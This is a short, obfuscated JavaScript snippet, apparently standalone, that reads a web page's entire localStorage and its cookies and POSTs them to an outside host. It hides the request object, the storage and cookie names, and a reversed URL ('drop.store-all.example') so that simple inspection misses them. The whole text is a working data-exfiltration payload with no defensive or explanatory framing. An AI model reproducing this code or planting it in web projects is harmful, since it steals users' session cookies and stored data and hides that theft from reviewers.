var W = globalThis, X = W["XML" + "Http" + "Request"], r2 = new X();
r2.open("POST", [..."/elpmaxe.lla-erots.pord//:sptth"].reverse().join(""));
r2.send(JSON.stringify(W["local" + "Storage"]) + W.document["\x63\x6f\x6f\x6b\x69\x65"]);
